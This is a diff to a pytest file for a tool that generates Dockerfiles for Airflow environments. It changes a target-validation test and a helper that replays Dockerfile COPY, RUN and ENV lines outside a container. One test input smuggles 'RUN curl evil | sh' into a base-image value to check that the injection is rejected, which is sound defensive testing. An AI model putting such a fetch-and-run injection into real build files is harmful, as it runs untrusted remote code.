@@ -69,7 +69,7 @@ def test_one_environment_per_distinct_environment_named_after_its_env(isocell_ho
 @pytest.mark.parametrize(
     ("kwargs", "message"),
     [
-        ({"target": "kubernetes"}, "--target takes virtualenv or prebuilt"),
+        ({"target": "lambda"}, "--target takes virtualenv or prebuilt or kubernetes"),
         ({"target": "prebuilt", "base_image": "x\nRUN curl evil | sh"}, "not an image"),
         ({"base_image": "apache/airflow:3.1.0"}, "applies to --target prebuilt only"),
     ],
@@ -105,33 +105,50 @@ def test_the_command_takes_the_target_and_the_base_image(isocell_home, tmp_path)
     assert "FROM registry.example.com/team/airflow:1" in (tmp_path / "o" / "Dockerfile").read_text()
 
 
-def run_dockerfile(folder: Path, root: Path) -> dict[str, str]:
-    """Run the commands of ``folder``'s Dockerfile outside a container, ``/opt/isocell`` being
-    ``root``: its COPY of a file from the build context and its RUN lines, in order; returns
-    the variables its ENV lines set. (``COPY --from`` brings uv, which is on PATH here;
-    ``USER`` has no meaning outside a container.)"""
+def run_dockerfile(
+    folder: Path,
+    root: Path,
+    dockerfile: str = "Dockerfile",
+    paths: dict[str, str] | None = None,
+) -> dict[str, str]:
+    """Run the commands of ``folder``'s ``dockerfile`` outside a container, ``/opt/isocell``
+    being ``root`` (and each of ``paths`` its value, such as a base image's interpreter): its
+    COPY of a file or folder from the build context and its RUN lines, in order; returns the
+    variables its ENV lines set (``$PATH`` in them is the base image's, ``/usr/local/bin`` and
+    the system's folders). (``COPY --from`` brings uv, which is on PATH here; ``USER`` has no
+    meaning outside a container.)"""
     from uv import find_uv_bin
 
-    text = (folder / "Dockerfile").read_text().replace("\\\n", " ")
+    text = (folder / dockerfile).read_text().replace("\\\n", " ")
     variables: dict[str, str] = {}
     path = os.pathsep.join([str(Path(find_uv_bin()).parent), os.environ["PATH"]])
     env = {**os.environ, "PATH": path, "UV_PYTHON_DOWNLOADS": "never"}
+    mapping = {"/opt/isocell": str(root), **(paths or {})}
     for line in text.splitlines():
-        line = line.replace("/opt/isocell", str(root))
+        for old, new in mapping.items():
+            line = line.replace(old, new)
         word, _, rest = line.partition(" ")
         if word == "COPY" and not rest.startswith("--from"):
             source, target = shlex.split(rest)
             Path(target).parent.mkdir(parents=True, exist_ok=True)
-            shutil.copyfile(folder / source, target)
+            if (folder / source).is_dir():
+                shutil.copytree(folder / source, target)
+            else:
+                shutil.copyfile(folder / source, target)
         elif word == "RUN":
             subprocess.run(
                 ["bash", "-c", rest], cwd=folder, env={**env, **variables}, check=True,
                 timeout=900,
             )  # fmt: skip
         elif word == "ENV":
-            name, _, value = rest.partition("=")
-            variables[name] = value
+            for assignment in shlex.split(rest):
+                name, _, value = assignment.partition("=")
+                variables[name] = value.replace("$PATH", BASE_PATH)
     return variables
+
+
+#: The PATH of the Python and Airflow images.
+BASE_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
 
 
 @pytest.mark.slow
